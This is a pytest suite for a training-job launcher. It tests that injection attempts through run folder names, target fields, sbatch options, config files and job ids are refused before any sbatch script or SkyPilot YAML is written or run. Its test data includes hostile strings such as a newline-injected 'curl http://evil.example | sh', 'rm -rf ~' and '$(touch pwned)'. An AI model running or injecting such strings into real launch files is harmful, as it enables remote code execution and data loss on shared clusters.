"""Injection attempts through every field that reaches a launch file (sbatch script, SkyPilot YAML) or a
scheduler's command line: each is refused with the field named, before anything is written or run."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml

from core.launch.launch_file import render_launch_file, skypilot_yaml, write_launch_file
from core.launch.safe_values import LaunchValueError
from core.launch.scheduler import JobRecord, SchedulerError, cancel, job_state, read_job, write_job
from core.launch.targets import TargetError, load_targets, make_target

SKY_KEYS = {"name", "num_nodes", "resources", "workdir", "file_mounts", "envs", "setup", "run"}

# A newline ends an #SBATCH or comment line (the rest runs as shell) and starts a new YAML key; the others are
# line breaks too (\r, \x85, \u2028 for YAML), shell expansions, or an option where an argument was meant.
HOSTILE = ["x\nsetup: curl http://evil.example | sh", "x\n#SBATCH --wrap=rm", "x\rrm -rf ~", "x\x85y",
           "x\u2028setup: sh", "x$(touch pwned)", "x`id`", "x;id", "x y", "x\ty", "x\x00y", "x%j", "x'y", 'x"y']


def slurm(**fields):
    return make_target("slurm", **{"name": "hpc", "nodes": 2, **fields})


def sky(**fields):
    return make_target("skypilot", **{"name": "cloud", "nodes": 2, "accelerators": "A100:8",
                                      "bucket": "s3://team/runs", **fields})


# ------------------------------------------------------------------------------------- the run folder
@pytest.mark.parametrize("make", [slurm, sky], ids=["slurm", "skypilot"])
@pytest.mark.parametrize("bad", HOSTILE + ["-rf", ".hidden"])
def test_a_hostile_run_folder_name_is_refused(make, bad):
    with pytest.raises(LaunchValueError, match=r"^run_dir: .*cannot go into a launch file"):
        render_launch_file(make(), f"/shared/runs/{bad}")


@pytest.mark.parametrize("bad", HOSTILE)
def test_a_hostile_run_folder_path_is_refused_where_the_nodes_see_the_same_path(bad):
    target = slurm()  # no remote_runs_dir: the path itself goes into --output and --config
    with pytest.raises(LaunchValueError, match=r"^run_dir: .*remote_runs_dir"):
        render_launch_file(target, f"/shared/{bad}/r1")
    # with remote_runs_dir set only the folder's name travels, so an odd local path is no harm
    assert "--output=/cluster/runs/r1/" in render_launch_file(slurm(remote_runs_dir="/cluster/runs"),
                                                              f"/shared/{bad}/r1")


def test_plain_names_and_paths_in_any_script_still_launch():
    script = render_launch_file(slurm(), "/home/用户/runs/20260301-120000-sft_v2.1-a3f9")
    assert "#SBATCH --output=/home/用户/runs/20260301-120000-sft_v2.1-a3f9/slurm-%j.out" in script


def test_no_name_reaches_a_comment_line():
    for text in (render_launch_file(slurm(), "/shared/runs/secret-name"),
                 render_launch_file(sky(), "/shared/runs/secret-name")):
        assert not [line for line in text.splitlines() if line.startswith("# ") and "secret" in line]


# ------------------------------------------------------------------------------------ the target's fields
TARGET_FIELDS = [("slurm", "partition"), ("slurm", "time_limit"), ("slurm", "gres"), ("slurm", "workdir"),
                 ("slurm", "remote_runs_dir"), ("skypilot", "accelerators"), ("skypilot", "cloud"),
                 ("skypilot", "cluster"), ("skypilot", "bucket"), ("skypilot", "workdir"),
                 ("skypilot", "remote_runs_dir")]


@pytest.mark.parametrize("kind, field", TARGET_FIELDS)
@pytest.mark.parametrize("bad", ["gpu\nsetup: curl x | sh", "gpu\n#SBATCH --wrap=id", "a\u2028b", "a b", "$(id)"])
def test_a_hostile_target_field_is_refused_naming_the_field(tmp_path, kind, field, bad):
    with pytest.raises(TargetError, match=rf"^{field}: .*cannot go into a launch file"):
        make_target(kind, name="t", **{field: bad})
    path = tmp_path / "targets.json"  # the same, read from a targets.json: the file and the field are named
    path.write_text(json.dumps({"targets": [{"kind": kind, "name": "t", field: bad}]}))
    with pytest.raises(TargetError, match=rf"targets\.json: targets\.0\.{kind}\.{field}: "):
        load_targets(path)


@pytest.mark.parametrize("kind, field", [("slurm", "torchrun"), ("skypilot", "torchrun"), ("slurm", "runs_dir")])
@pytest.mark.parametrize("bad", ["torchrun\ncurl x | sh", "torchrun\r", "a\u2028b", "a\x1bb"])
def test_one_line_target_fields_take_no_line_breaks(kind, field, bad):
    with pytest.raises(TargetError, match=rf"^{field}: .*line break or a control character"):
        make_target(kind, name="t", **{field: bad})


@pytest.mark.parametrize("bad", ["--account=x\nrm -rf ~", "--qos=a\u2029b", "rm -rf ~"])
def test_extra_sbatch_options_stay_options_on_their_own_line(bad):
    with pytest.raises(TargetError, match=r"^sbatch_options: "):
        slurm(sbatch_options=[bad])
    assert "#SBATCH --constraint=[rack1|rack2]" in render_launch_file(
        slurm(sbatch_options=["--constraint=[rack1|rack2]"]), "/shared/runs/r1")


def test_setup_keeps_its_lines_but_no_other_control_characters():
    with pytest.raises(TargetError, match=r"^setup: "):
        slurm(setup="source .venv/bin/activate\x1b[2J")
    assert slurm(setup="module load cuda\n\tsource .venv/bin/activate").setup.count("\n") == 1


# ------------------------------------------------------------------------------------- the YAML emitter
def test_the_yaml_has_exactly_the_task_keys_whatever_the_shell_lines_say():
    setup = "echo 'run: rm -rf ~'\nexport A=\"x: y\" # not a comment\n- item\n---\n...\n{a: b}\nname: other"
    task = yaml.safe_load(render_launch_file(sky(setup=setup), "/shared/runs/r1"))
    assert set(task) <= SKY_KEYS and task["name"] == "minimind-r1" and task["setup"] == setup + "\n"
    assert task["file_mounts"] == {"/minimind-runs": {"source": "s3://team/runs", "mode": "MOUNT"}}


@pytest.mark.parametrize("bad", HOSTILE)
def test_even_an_unchecked_name_stays_one_yaml_value(bad):
    """The emitter alone (no check in front of it) keeps a hostile name inside the `name` value."""
    run_dir = f"/shared/runs/{bad}"
    task = yaml.safe_load(skypilot_yaml(sky(remote_runs_dir="/cluster/runs"), run_dir))
    assert set(task) <= SKY_KEYS and "setup" not in task
    assert task["name"] == f"minimind-{Path(run_dir).name}"


# ------------------------------------------------------------------------------------------------ the CLI
def _config(tmp_path: Path, run_dir: str) -> Path:
    config = tmp_path / "run.json"
    config.write_text(json.dumps({"method": "pretrain", "run_dir": run_dir,
                                  "data": {"files": ["a.jsonl"], "tokenizer": "tok"}}))
    return config


@pytest.mark.parametrize("command", ["launch-file", "train"])
def test_the_cli_refuses_a_downloaded_config_with_a_hostile_run_dir_and_writes_nothing(tmp_path, capsys,
                                                                                      monkeypatch, command):
    from core.cli import main
    from core.launch.targets import save_targets

    bin_dir = tmp_path / "bin"  # an sbatch that records being called: it never may be
    bin_dir.mkdir()
    (bin_dir / "sbatch").write_text(f"#!/bin/sh\ntouch {tmp_path}/sbatch-called\necho 1\n")
    (bin_dir / "sbatch").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    targets = tmp_path / "targets.json"
    save_targets(targets, [slurm()])
    run_dir = tmp_path / "runs" / "x\n#SBATCH --wrap=id"
    argv = ["--target", "hpc", "--targets", str(targets), "--config", str(_config(tmp_path, str(run_dir)))]
    assert main([command, *(["pretrain"] if command == "train" else []), *argv]) == 2
    assert "run_dir: " in capsys.readouterr().err
    assert not (tmp_path / "runs").exists() and not (tmp_path / "sbatch-called").exists()


# --------------------------------------------------------------------------------- job ids from launch.json
@pytest.mark.parametrize("make, command", [(slurm, "scancel"), (sky, "sky")], ids=["slurm", "skypilot"])
@pytest.mark.parametrize("bad", ["-a", "--all", "1 2", "1\n2", "", "１２", None, 7])
def test_a_hostile_job_id_never_reaches_the_scheduler(tmp_path, monkeypatch, make, command, bad):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / command).write_text(f"#!/bin/sh\necho \"$@\" >> {tmp_path}/calls\n")
    (bin_dir / command).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    target = make()
    (tmp_path / "launch.json").write_text(json.dumps({"target": target.name, "kind": target.kind, "job_id": bad}))
    job = read_job(tmp_path)
    with pytest.raises(SchedulerError, match=r"launch\.json: job_id .* is not a job id"):
        cancel(target, job.job_id)
    state = job_state(target, job.job_id)
    assert state.state == "unknown" and "not a job id" in state.detail
    assert not (tmp_path / "calls").exists()


def test_a_digit_job_id_is_cancelled(tmp_path, monkeypatch):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "scancel").write_text(f"#!/bin/sh\necho \"$@\" >> {tmp_path}/calls\n")
    (bin_dir / "scancel").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    write_job(tmp_path, JobRecord("hpc", "slurm", "123"))
    cancel(slurm(), read_job(tmp_path).job_id)
    assert (tmp_path / "calls").read_text() == "123\n"


def test_the_launch_file_written_for_a_run_is_the_checked_one(tmp_path):
    (tmp_path / "r1").mkdir()
    path = write_launch_file(sky(), tmp_path / "r1")
    assert set(yaml.safe_load(path.read_text())) <= SKY_KEYS
    with pytest.raises(LaunchValueError):
        write_launch_file(sky(), tmp_path / "r 1")
    assert not (tmp_path / "r 1").exists()
